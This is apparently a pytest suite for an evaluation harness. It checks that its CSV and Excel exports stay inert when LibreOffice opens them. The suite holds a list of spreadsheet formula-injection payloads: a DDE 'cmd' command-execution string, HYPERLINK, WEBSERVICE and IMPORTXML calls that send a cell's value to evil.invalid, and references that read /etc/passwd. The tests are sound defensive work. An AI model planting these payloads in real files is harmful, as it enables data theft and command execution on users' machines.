"""CSV files and workbooks, opened by LibreOffice: whatever a model wrote, no cell computes."""

import csv
import dataclasses
import itertools
import shutil
import subprocess
from collections import Counter

import pytest

from evalharness.drift.result import Drift
from evalharness.record import ScoreRow, seal
from evalharness.report.frames import csv_text, metrics_frame, samples_frame, scores_frame, write_parquet
from evalharness.report.workbook import write_workbook

from .drifting import drift_line, drift_report
from .test_compare import FIGURE, comparison

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=-", "+=", "@=")
_BODIES = (
    "40+2",
    "SUM(40,2)",
    "40+2+cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.invalid/?x="&A1,"42")',
    'WEBSERVICE("http://evil.invalid/"&A1)',
    'IMPORTXML(CONCAT("http://evil.invalid/",A1),"//a")',
    'DDE("soffice","/etc/passwd","A1")',
    "1+1;42",
    "'file:///etc/passwd'#$passwd.A1",
    'CONCATENATE("4","2")',
    "A1",
    "-2+44",
    "_xlfn.WEBSERVICE(1)",
    "{40+2}",
    "RAND()*0+42",
)
PAYLOADS = [lead + body for lead, body in itertools.product(_LEADS, _BODIES)][:200]
# Evaluated where nothing is done about it: what shows that the conversion below computes formulas at all.
_CONTROL = "=40+2"
# UTF-8, commas, all columns of the standard kind, and formulas computed (the thirteenth token).
_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
_EXPORT = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """Opens a file in LibreOffice; gives its sheets by name, as LibreOffice shows their cells."""
    tool = shutil.which("soffice")
    if tool is None:
        pytest.skip("no LibreOffice here; install it: apt-get install libreoffice-calc")
    home = tmp_path_factory.mktemp("office")

    def show(path):
        out = tmp_path_factory.mktemp("shown")
        command = [tool, f"-env:UserInstallation={home.as_uri()}", "--headless", "--norestore"]
        command += [f"--infilter={_IMPORT}"] if path.suffix == ".csv" else []
        command += ["--convert-to", _EXPORT, "--outdir", str(out), str(path)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=240)
        files = sorted(out.glob("*.csv"))
        assert files, done.stdout + done.stderr
        sheets = {}
        for file in files:
            name = file.stem.removeprefix(path.stem).lstrip("-")
            with file.open(encoding="utf-8", newline="") as lines:
                sheets[name] = list(csv.reader(lines))
        return sheets

    return show


def _frame(record):
    frame = samples_frame(record)
    frame = frame[frame["task"] == "translate"].reset_index(drop=True)
    frame["text"] = PAYLOADS
    return frame


@pytest.mark.slow
@pytest.mark.office
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_payload_is_evaluated(make_record, office, tmp_path, monkeypatch, kind):
    record = make_record(n=len(PAYLOADS))
    frame = _frame(record)
    if kind == "csv":
        path = tmp_path / "samples.csv"
        path.write_text(csv_text(frame), encoding="utf-8")
        (rows,) = office(path).values()
    else:
        monkeypatch.setattr("evalharness.report.workbook.samples_frame", lambda record: frame)
        path = tmp_path / "report.xlsx"
        write_workbook(record, path)
        rows = office(path)["samples"]
    at = rows[0].index("text")
    shown = [row[at] for row in rows[1:]]
    assert len(shown) == len(PAYLOADS) == 200
    for payload, cell in zip(PAYLOADS, shown, strict=True):
        assert cell != "42"
        # As it was written, but for white space that a file of text cannot tell apart.
        assert "".join(cell.removeprefix("'").split()) == "".join(payload.split()), payload
        assert not cell.startswith(("#", "Err:"))


def _plain(cell):
    """A cell as it was written, but for white space that a file of text cannot tell apart, and the mark of text."""
    return "".join(cell.removeprefix("'").split())


def _every_csv(record):
    """What each verb that exports writes, every payload in several places of it."""
    from dataclasses import replace

    from evalharness.record import Rating
    from evalharness.record.rating_csv import ratings_to_csv

    figures = [
        replace(FIGURE, task=one, metric=one, group=one, candidate=one, model=one, baseline_model=one)
        for one in PAYLOADS
    ]
    findings = [replace(drift_line(one, 0.5, 0.2), reason=one, segment=one) for one in PAYLOADS]
    ratings = [
        Rating(one, one, one, one, 0, one, "label", label=one, comment=one, asked=one) for one in PAYLOADS
    ]  # fmt: skip
    yield "metrics", csv_text(metrics_frame(record))
    yield "scores", csv_text(scores_frame(record))
    yield "compare", csv_text(comparison(*figures).frame())
    report = drift_report(findings=tuple(findings))
    drift = Drift(**{field.name: getattr(report, field.name) for field in dataclasses.fields(report)})
    yield "drift", csv_text(drift.frame())
    yield "ratings", ratings_to_csv(ratings)


def _hostile(make_record):
    """A record whose figures, groups and scores are named by payloads."""
    record = make_record(n=4)
    results = [
        dataclasses.replace(record.results[0], task=one, model=one, metric=one, group=one, signature=one)
        for one in PAYLOADS
    ]
    scores = [ScoreRow(one, one, one, one, "d" * 64, 1.0) for one in PAYLOADS]
    return seal(
        record.folder.parent / "hostile",
        dataclasses.replace(record.manifest, id="hostile", results=tuple(results)),
        [],
        scores,
        [],
    )


@pytest.mark.slow
@pytest.mark.office
def test_no_csv_of_any_verb_is_evaluated(make_record, office, tmp_path):
    texts = dict(_every_csv(_hostile(make_record)))
    path = tmp_path / "all.csv"
    path.write_text("".join(texts.values()), encoding="utf-8")  # one start of the office for all of them
    (rows,) = office(path).values()
    shown = Counter(_plain(cell) for row in rows for cell in row)
    assert not {"42", "44"} & set(shown)
    assert not [cell for cell in shown if cell.startswith("Err:") or cell in ("#NAME?", "#VALUE!", "#REF!", "#N/A")]
    for payload in PAYLOADS:
        assert shown[_plain(payload)] >= 3 + 3 + 6 + 2 + 7, payload


@pytest.mark.slow
@pytest.mark.office
def test_no_sheet_of_a_workbook_is_evaluated(make_record, office, tmp_path):
    verdict = {"state": "fail", "tier": "block", "value": 0.5, "ci_low": 0.4, "ci_high": 0.6, "limit": 0.9, "n": 9}
    verdicts = [verdict | dict.fromkeys(("rule", "task", "model", "metric", "reason"), one) for one in PAYLOADS]
    path = tmp_path / "report.xlsx"
    write_workbook(_hostile(make_record), path, {"state": "fail", "reason": PAYLOADS[0], "verdicts": verdicts})
    for name, rows in office(path).items():
        shown = Counter(_plain(cell) for row in rows for cell in row)
        assert not {"42", "44"} & set(shown), name
        assert not [cell for cell in shown if cell.startswith("Err:") or cell in ("#NAME?", "#VALUE!")], name
        for payload in PAYLOADS if name in ("rules", "metrics", "scores") else ():
            assert shown[_plain(payload)] >= 3, (name, payload)


@pytest.mark.slow
@pytest.mark.office
def test_the_conversion_would_evaluate(office, tmp_path):
    path = tmp_path / "control.csv"
    path.write_text(f"a,b\n{_CONTROL},{_CONTROL}\n", encoding="utf-8")
    (rows,) = office(path).values()
    assert rows[1] == ["42", "42"]


def test_every_export_marks_formulas(make_record, tmp_path):
    import openpyxl

    record = make_record(n=4, odd="\n=40+2", models=("=1+1", "@SUM(1)"), metric="+cmd")
    for line in csv.reader(csv_text(metrics_frame(record)).splitlines()):
        assert not [cell for cell in line if cell.startswith(("=", "+", "@"))]
    write_workbook(record, tmp_path / "r.xlsx", {"state": "fail", "reason": "=1+1", "verdicts": []})
    for sheet in openpyxl.load_workbook(tmp_path / "r.xlsx"):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@"))), cell.value


def test_a_workbook_holds_all_that_the_report_is_made_of(make_record, tmp_path):
    import pandas as pd

    record = make_record(n=4)
    gate = {"state": "fail", "reason": "Too low.", "verdicts": []}
    assert write_workbook(record, tmp_path / "r.xlsx", gate) == ()
    sheets = pd.read_excel(tmp_path / "r.xlsx", sheet_name=None)
    assert list(sheets) == ["verdict", "rules", "metrics", "samples", "scores"]
    assert sheets["verdict"].set_index("what").loc["reason", "is"] == "Too low."
    assert len(sheets["metrics"]) == len(record.results)
    first = record.results[0]
    row = sheets["metrics"].iloc[0]
    assert (row["task"], row["metric"], row["n"]) == (first.task, first.metric, first.n)
    assert row["value"] == first.value
    assert len(sheets["samples"]) == 8


def test_a_workbook_reads_well(make_record, tmp_path):
    import openpyxl

    record = make_record()
    write_workbook(record, tmp_path / "r.xlsx", {"state": "fail", "reason": "Too low.", "verdicts": []})
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert all(cell.font.bold for sheet in book for cell in sheet[1] if cell.value)
    assert book["rules"].sheet_properties.pageSetUpPr.fitToPage
    assert not book["samples"].sheet_properties.pageSetUpPr.fitToPage
    metrics = book["metrics"]
    heads = {cell.value: cell for cell in metrics[1]}
    # All digits are kept, and no column is as wide as they are.
    value = heads["value"]
    assert metrics.column_dimensions[value.column_letter].width == 12
    assert metrics[f"{value.column_letter}2"].value == next(iter(record.results)).value
    assert (value.alignment.horizontal, heads["metric"].alignment.horizontal) == ("right", "left")


def test_what_a_cell_cannot_hold_is_cut_and_said(make_record, tmp_path):
    record = make_record(n=2, odd="x" * 40_000 + "\x00")
    said = write_workbook(record, tmp_path / "r.xlsx")
    assert any("more than 32,767 characters" in line for line in said)


def test_parquet_keeps_texts_as_they_are(make_record, tmp_path):
    import pandas as pd

    record = make_record(n=2, odd="=40+2")
    write_parquet(samples_frame(record), tmp_path / "s.parquet")
    assert pd.read_parquet(tmp_path / "s.parquet")["text"].dropna().str.endswith("=40+2").all()
